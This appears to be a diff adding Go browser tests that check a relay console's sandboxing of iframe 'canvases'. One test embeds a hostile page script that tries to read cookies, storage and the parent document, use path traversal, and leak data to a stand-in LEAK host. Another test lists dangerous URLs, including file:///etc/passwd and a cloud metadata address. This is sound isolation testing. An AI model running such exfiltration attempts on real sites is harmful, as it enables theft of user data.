@@ -1,0 +1,444 @@
+package browser_test
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"image"
+	"image/color"
+	"image/png"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"testing/fstest"
+	"time"
+
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/target"
+	"github.com/chromedp/chromedp"
+
+	"ahprelay/test/refhost"
+)
+
+// canvasSession has a canvas open from the beginning.
+const canvasSession = "demo:/notes"
+
+// demoCanvases are the demo's, and one with several pages.
+var demoCanvases = []refhost.Canvas{
+	{ID: "notes"},
+	{ID: "pages", Files: fstest.MapFS{
+		"index.html": {Data: []byte(`<!doctype html><p>First</p><a id=next href="more/second.html">Next</a><a id=away href="https://example.invalid/">Away</a>`)},
+		"more/second.html": {Data: []byte(`<!doctype html><p>Second</p><img id=img src="/pic.svg"><style>p { background: url("../pic.svg") }</style>` +
+			`<script type="importmap">{"imports": {"lib/": "../lib/"}}</script>` +
+			`<script type="module">import { name } from "lib/name.mjs"; document.body.dataset.name = name + " " + new URL("x", import.meta.url);</script>`)},
+		"lib/name.mjs": {Data: []byte(`export const name = "named";`)},
+		"pic.svg":      {Data: []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"><rect width="7" height="7"/></svg>`)},
+	}},
+}
+
+// hostileCanvas tries what a canvas must not be able to do, and says what it
+// got in its title, one thing a line.
+const hostileCanvas = `<!doctype html><title>working</title><p>I am hostile.</p>
+<script>
+const got = [];
+const attempt = async (name, work) => {
+  try { got.push(name + ": " + await work()); } catch { got.push(name + ": refused"); }
+  document.title = got.join("\n");
+};
+const event = (target) => new Promise((done, fail) => { target.onload = target.onopen = () => done("loaded"); target.onerror = fail; });
+(async () => {
+  await attempt("its own content", async () => (await fetch("data.txt")).text());
+  await attempt("origin", () => self.origin);
+  await attempt("referrer", () => "<" + document.referrer + ">");
+  await attempt("fragment", () => "<" + location.hash + location.search + ">");
+  await attempt("cookies", () => document.cookie);
+  await attempt("localStorage", () => localStorage.length);
+  await attempt("sessionStorage", () => sessionStorage.length);
+  await attempt("indexedDB", () => event(indexedDB.open("x")));
+  await attempt("parent document", () => parent.document.title);
+  await attempt("parent address", () => parent.location.href);
+  await attempt("parent history", () => parent.history.length);
+  await attempt("api", async () => (await fetch("http://" + location.host + "/api/hosts?leak")).status);
+  await attempt("web", async () => (await fetch("http://LEAK/fetch")).status);
+  await attempt("beacon", () => navigator.sendBeacon("http://LEAK/beacon") ? "sent" : Promise.reject());
+  await attempt("foreign instance", async () => (await fetch("ahp-canvas-content:/notes-1/index.html")).text());
+  await attempt("traversal", async () => { const r = await fetch("%2e%2e/notes-1/index.html"); return r.ok ? r.text() : Promise.reject(); });
+  await attempt("socket", () => event(new WebSocket("ws://" + location.host + "/ahp/demo")));
+  await attempt("image", () => event(Object.assign(new Image(), { src: "http://LEAK/image" })));
+  await attempt("script", () => event(document.body.appendChild(Object.assign(document.createElement("script"), { src: "http://LEAK/script" }))));
+  await attempt("module", () => import("http://LEAK/module"));
+  await attempt("style", () => event(document.head.appendChild(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "http://LEAK/style" }))));
+  await attempt("window", () => window.open("http://LEAK/window") ? "open" : Promise.reject());
+  await attempt("top", () => { top.location = "http://LEAK/top"; return "navigated"; });
+  const inner = document.body.appendChild(Object.assign(document.createElement("iframe"), { src: "http://LEAK/frame" }));
+  await attempt("frame", () => inner.contentDocument.title);
+})();
+</script>`
+
+// hostileGot is what it gets. An address below its own document's is taken for
+// its content, which has no such file; browsers say that a beacon was sent, but
+// that is not true.
+const hostileGot = `its own content: its own
+origin: null
+referrer: <>
+fragment: <>
+cookies: refused
+localStorage: refused
+sessionStorage: refused
+indexedDB: refused
+parent document: refused
+parent address: refused
+parent history: refused
+api: 404
+web: refused
+beacon: sent
+foreign instance: refused
+traversal: refused
+socket: refused
+image: refused
+script: refused
+module: refused
+style: refused
+window: refused
+top: refused
+frame: refused`
+
+// frame waits for a sandboxed frame whose address ends so, and returns it as a
+// page of its own.
+func (p *page) frame(suffix string) *page {
+	p.t.Helper()
+	var id target.ID
+	p.until("a frame "+suffix, patience, func() bool {
+		infos, err := chromedp.Targets(p.ctx)
+		if err != nil {
+			p.t.Fatal(err)
+		}
+		i := slices.IndexFunc(infos, func(info *target.Info) bool { return info.Type == "iframe" && strings.HasSuffix(info.URL, suffix) })
+		if i >= 0 {
+			id = infos[i].TargetID
+		}
+		return i >= 0
+	})
+	ctx, cancel := chromedp.NewContext(p.ctx, chromedp.WithTargetID(id))
+	p.t.Cleanup(cancel)
+	return &page{t: p.t, ctx: ctx, top: p}
+}
+
+// openCanvas opens a canvas at the host, and has the page show it.
+func (p *page) openCanvas(s *stack, id string) (channel string) {
+	p.t.Helper()
+	channel, err := s.host.OpenCanvas(canvasSession, id, nil)
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	p.click("#canvases li:last-child button")
+	return channel
+}
+
+// canvasPage shows the session that has canvases.
+func canvasPage(t *testing.T) (*page, *stack) {
+	t.Helper()
+	p := newPage(t)
+	s := startStack(t)
+	p.do(desktop(), colours("light"), chromedp.Navigate(s.console(s.token(time.Hour))))
+	p.click(`[data-session="` + canvasSession + `"] button`)
+	p.wants("#canvases", "Notes")
+	return p, s
+}
+
+// colourAt returns the colour of what the page shows, at a place given from
+// the left upper corner of an element.
+func (p *page) colourAt(selector string, x, y int) color.RGBA {
+	p.t.Helper()
+	data, err := chromedp.Run(p.ctx, chromedp.CaptureScreenshot())
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	img, err := png.Decode(bytes.NewReader(data))
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	box := "document.querySelector(" + strconv.Quote(selector) + ").getBoundingClientRect()"
+	at := image.Pt(int(eval[float64](p, box+".left"))+x, int(eval[float64](p, box+".top"))+y)
+	r, g, b, a := img.At(at.X, at.Y).RGBA()
+	return color.RGBA{uint8(r >> 8), uint8(g >> 8), uint8(b >> 8), uint8(a >> 8)}
+}
+
+// TestCanvas renders an application of many files, whose host nobody can
+// reach, through the relay.
+func TestCanvas(t *testing.T) {
+	p, s := canvasPage(t)
+	p.click("#canvases button")
+	p.wants("#canvas-badge", "ready")
+	f := p.frame("/canvas-inband.html")
+	for check, want := range map[string]string{
+		"classic": "true",                 // a script before the body is there
+		"fetch":   "Notes of this canvas", // JSON
+		"missing": "404",
+		"xhr":     "Notes of this canvas",
+		"import":  "late",    // a module, when it is needed
+		"image":   "32 × 32", // one that a script adds
+		"pong":    "notes-1", // the provider answers
+	} {
+		f.wants("#check-"+check, want)
+	}
+	f.wants("#state", "1 note") // modules that import each other, and the bridge
+	f.wants("#notes", "Mention the new search.")
+	for script, want := range map[string]string{
+		"getComputedStyle(document.querySelector('#state')).backgroundColor":                                       "rgb(10, 120, 90)", // @import
+		"getComputedStyle(document.body).backgroundImage.slice(0, 14)":                                             `url("blob:null/`[:14],
+		"String(document.querySelector('#logo').naturalWidth)":                                                     "32",
+		"String(document.styleSheets.length)":                                                                      "1",
+		"performance.getEntriesByType('resource').map((e) => e.name).filter((n) => !n.startsWith('blob:')).join()": "",
+	} {
+		if got := eval[string](f, script); got != want {
+			t.Errorf("%s = %q; want %q", script, got, want)
+		}
+	}
+	// What people see: the logo, and the tiles behind the text.
+	p.until("the logo's edge", patience, func() bool { return p.colourAt("#canvas-frame", 14, 14) == color.RGBA{200, 30, 60, 255} })
+	if got := p.colourAt("#canvas-frame", 28, 28); got != (color.RGBA{20, 60, 200, 255}) {
+		t.Errorf("the logo's middle is %v; want blue", got)
+	}
+	if got := p.colourAt("#canvas-frame", 4, 100); got != (color.RGBA{255, 240, 205, 255}) {
+		t.Errorf("the ground is %v; want the tile's colour", got)
+	}
+
+	// The bridge, from the view and from the agent.
+	eval[any](f, "document.querySelector('#text').value = 'Thank the testers.'; document.querySelector('#add').click()")
+	f.wants("#notes", "Thank the testers.")
+	p.wants("#canvas-status", "2 notes")
+	channel := s.host.canvas(t)
+	must(t, s.host.MessageCanvas(channel, map[string]any{"from": "the agent"}))
+	f.wants("#check-message", `{"from":"the agent"}`)
+	p.shot("canvas")
+
+	// A new title changes nothing else; a new address is loaded.
+	must(t, s.host.UpdateCanvas(channel, map[string]any{"title": "Notes for 2.4", "status": nil}))
+	p.wants("#canvas-title", "Notes for 2.4")
+	p.wants("#canvases", "Notes for 2.4")
+	p.until("the status to be cleared", patience, func() bool { return p.text("#canvas-status") == "" })
+	f.wants("#check-message", "the agent")
+	must(t, s.host.UpdateCanvas(channel, nil))
+	p.wants("#canvas-status", "Round 2")
+	f = p.newFrame("/canvas-inband.html", "!document.querySelector('#check-message')")
+	f.wants("#state", "2 notes")
+
+	// The provider goes, and comes back.
+	must(t, s.host.StaleCanvas(channel))
+	p.wants("#canvas-badge", "stale")
+	p.wants("#canvases", "stale")
+	p.until("a word about it", patience, func() bool { return eval[bool](p, "document.querySelector('#canvas-stale').checkVisibility()") })
+	f.wants("#notes", "Thank the testers.") // what was there still shows
+	p.shot("canvas-stale")
+	must(t, s.host.ReadyCanvas(channel))
+	p.wants("#canvas-badge", "ready")
+	p.until("no word about it", patience, func() bool { return eval[bool](p, "document.querySelector('#canvas-stale').hidden") })
+	f = p.newFrame("/canvas-inband.html", "true")
+	f.wants("#state", "2 notes")
+
+	// A phone, then the end.
+	p.do(phone())
+	p.until("the canvas alone", patience, func() bool {
+		return eval[bool](p, "document.querySelector('#canvas').checkVisibility() && !document.querySelector('#log').checkVisibility()")
+	})
+	p.shot("phone-canvas")
+	p.do(colours("dark"))
+	p.shot("phone-canvas-dark")
+	p.click("#canvas-hide")
+	p.wants("#turns", "Search understands quotes now.")
+	p.click("#canvases button")
+	p.click("#canvas-close")
+	p.until("the canvas to go", patience, func() bool {
+		return eval[bool](p, "document.querySelector('#canvases').hidden && document.querySelector('#canvas').hidden")
+	})
+	if eval[bool](p, "document.querySelector('iframe') !== null") {
+		t.Error("the frame of a closed canvas is still there")
+	}
+}
+
+// newFrame waits for a frame in which a condition holds: an earlier one may be
+// on its way out.
+func (p *page) newFrame(suffix, condition string) (f *page) {
+	p.t.Helper()
+	p.until("a frame in which "+condition, patience, func() bool {
+		f = p.frame(suffix)
+		fresh, err := chromedp.Run(f.ctx, chromedp.Evaluate[bool]("document.querySelector('#checks, p') !== null && "+condition))
+		return err == nil && fresh
+	})
+	return f
+}
+
+func must(t *testing.T, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestCanvasIsolation lets a canvas try to reach the console, other canvases
+// and the network.
+func TestCanvasIsolation(t *testing.T) {
+	var mu sync.Mutex
+	var leaks []string
+	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		leaks = append(leaks, r.URL.Path)
+	}))
+	t.Cleanup(web.Close)
+	testCanvas := refhost.Canvas{ID: "hostile", Files: fstest.MapFS{
+		"index.html": {Data: []byte(strings.ReplaceAll(hostileCanvas, "LEAK", web.Listener.Addr().String()))},
+		"data.txt":   {Data: []byte("its own")},
+	}}
+	p := newPage(t)
+	p.hostile = true
+	s := startStack(t, testCanvas)
+	p.do(desktop(), chromedp.Navigate(s.console(s.token(time.Hour))))
+	eval[any](p, "document.cookie = 'secret=1'; localStorage.setItem('secret', '1')")
+	p.click(`[data-session="` + canvasSession + `"] button`)
+	channel := p.openCanvas(s, "hostile")
+	f := p.frame("/canvas-inband.html")
+	f.wants("title", "\nframe: ")
+	if got := f.text("title"); got != hostileGot {
+		t.Errorf("a hostile canvas got\n%s\nwant\n%s", got, hostileGot)
+	}
+	p.shot("canvas-hostile")
+
+	// It can leave, but for nowhere else than this relay.
+	eval[any](f, "void (location = 'http://"+web.Listener.Addr().String()+"/navigated')")
+	p.until("the frame to be refused", patience, func() bool {
+		infos, err := chromedp.Targets(p.ctx)
+		return err == nil && !slices.ContainsFunc(infos, func(i *target.Info) bool { return strings.HasSuffix(i.URL, "/canvas-inband.html") })
+	})
+	// Messages from elsewhere are not taken for the canvas's.
+	eval[any](p, "postMessage({type: 'add', text: 'forged'}, '*')")
+	must(t, s.host.UpdateCanvas(channel, map[string]any{"title": "After"}))
+	p.wants("#canvas-title", "After")
+	mu.Lock()
+	defer mu.Unlock()
+	if len(leaks) > 0 {
+		t.Errorf("the canvas reached the network: %q", leaks)
+	}
+}
+
+// TestCanvasPages follows links inside a canvas, and loads what refers to its
+// root, to its directory and through an import map.
+func TestCanvasPages(t *testing.T) {
+	p, s := canvasPage(t)
+	p.openCanvas(s, "pages")
+	f := p.frame("/canvas-inband.html")
+	f.wants("p", "First")
+	eval[any](f, "document.querySelector('#away').click()")
+	f.wants("p", "First")
+	eval[any](f, "document.querySelector('#next').click()")
+	f = p.newFrame("/canvas-inband.html", "document.querySelector('p').textContent === 'Second'")
+	f.until("the picture", patience, func() bool { return eval[bool](f, "document.querySelector('#img').naturalWidth === 7") })
+	f.until("the module", patience, func() bool {
+		return eval[string](f, "document.body.dataset.name ?? ''") == "named ahp-canvas-content:/pages-2/more/x"
+	})
+}
+
+// TestCanvasAddresses shows what is loaded from where, and what is refused.
+func TestCanvasAddresses(t *testing.T) {
+	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprintf(w, `<!doctype html><p id=got>%s|%s|%s</p><script>
+			addEventListener("message", (e) => { if (e.source === parent) document.querySelector("#got").textContent += "|" + e.data; });
+			document.querySelector("#got").textContent += "|" + self.origin; parent.postMessage("from the page", "*");</script>`,
+			r.Header.Get("Cookie"), r.Header.Get("Authorization"), r.Referer())
+	}))
+	t.Cleanup(app.Close)
+	p, s := canvasPage(t)
+	p.click("#canvases button")
+	p.frame("/canvas-inband.html").wants("#state", "1 note")
+	channel := s.host.canvas(t)
+	for _, tc := range []struct{ url, why string }{
+		{"javascript:alert(1)", "javascript: are not opened"},
+		{"file:///etc/passwd", "file: are not opened"},
+		{"blob:null/1", "blob: are not opened"},
+		{"vscode-webview://x/", "vscode-webview: are not opened"},
+		{"http://example.com/", "not safe"},
+		{"http://169.254.169.254/latest", "not safe"},
+		{s.console(""), "this relay itself"},
+		{"https://user:secret@example.com/", "a password"},
+		{"ahp-canvas-content:/other/index.html", "another canvas"},
+		{"not an address", "is none"},
+	} {
+		must(t, s.host.UpdateCanvas(channel, map[string]any{"url": tc.url}))
+		p.wants("#canvas-note", tc.why)
+		if eval[bool](p, "document.querySelector('iframe') !== null") {
+			t.Errorf("there is a frame for %s", tc.url)
+		}
+	}
+	p.shot("canvas-refused")
+	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": nil}))
+	p.wants("#canvas-note", "no address")
+
+	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": "data:text/html,<p id=got>from%20data</p>"}))
+	p.newFrame("/canvas-inband.html", "document.querySelector('p').textContent === 'from data'")
+	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": "ahp-canvas-content:/notes-1/none.html"}))
+	p.wants("#canvas-note", "Content not found")
+	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": "ahp-canvas-content:/notes-1/img/logo.png"}))
+	p.until("the picture alone", patience, func() bool { return p.colourAt("#canvas-frame", 14, 14) == color.RGBA{200, 30, 60, 255} })
+
+	// On loopback, as in the demo, so may a canvas be. It gets no cookies of
+	// its site, and no word of this page.
+	p.do(setCookie(app.URL))
+	must(t, s.host.UpdateCanvas(channel, map[string]any{"url": app.URL + "/app"}))
+	f := p.frame("/app")
+	f.wants("#got", "|||null")
+	f.wants("#got", "|[object Object]") // the provider's echo
+	p.shot("canvas-direct")
+}
+
+// setCookie gives the browser a cookie of a site.
+func setCookie(url string) step {
+	return func(ctx context.Context, target *chromedp.Target) (chromedp.Void, error) {
+		_, err := cdp.Call(ctx, target, network.SetCookie, network.SetCookieParams{Name: "secret", Value: "1", URL: url})
+		return chromedp.Void{}, err
+	}
+}
+
+// TestCanvasSurvivesADrop cuts the connection under a canvas.
+func TestCanvasSurvivesADrop(t *testing.T) {
+	p, s := canvasPage(t)
+	p.click("#canvases button")
+	f := p.frame("/canvas-inband.html")
+	f.wants("#state", "1 note")
+	eval[any](f, "window.mark = 1")
+	channel := s.host.canvas(t)
+	s.proxy.cut()
+	p.wants("#status-text", "Connection lost")
+	must(t, s.host.MessageCanvas(channel, "while away"))
+	p.wants("#status-text", "Live")
+	f.wants("#check-message", "while away")
+	eval[any](f, "document.querySelector('#add').click()")
+	f.wants("#state", "2 notes")
+	if !eval[bool](f, "window.mark === 1") {
+		t.Error("the canvas was loaded anew")
+	}
+	// A host that was started anew has other canvases.
+	s.host.kill()
+	p.wants("#status-text", "waiting for the host")
+	s.restartHost()
+	p.wants("#status-text", "Live")
+	p.until("the old canvas to go", patience, func() bool { return eval[bool](p, "document.querySelector('#canvas').hidden") })
+	p.click("#canvases button")
+	p.newFrame("/canvas-inband.html", "!window.mark").wants("#state", "1 note")
+}
+
+// canvas returns the channel of the canvas that is open from the beginning.
+func (h *demoHost) canvas(t *testing.T) string {
+	t.Helper()
+	channels := h.Canvases(canvasSession)
+	if len(channels) == 0 {
+		t.Fatal("no canvas is open")
+	}
+	return channels[0]
+}
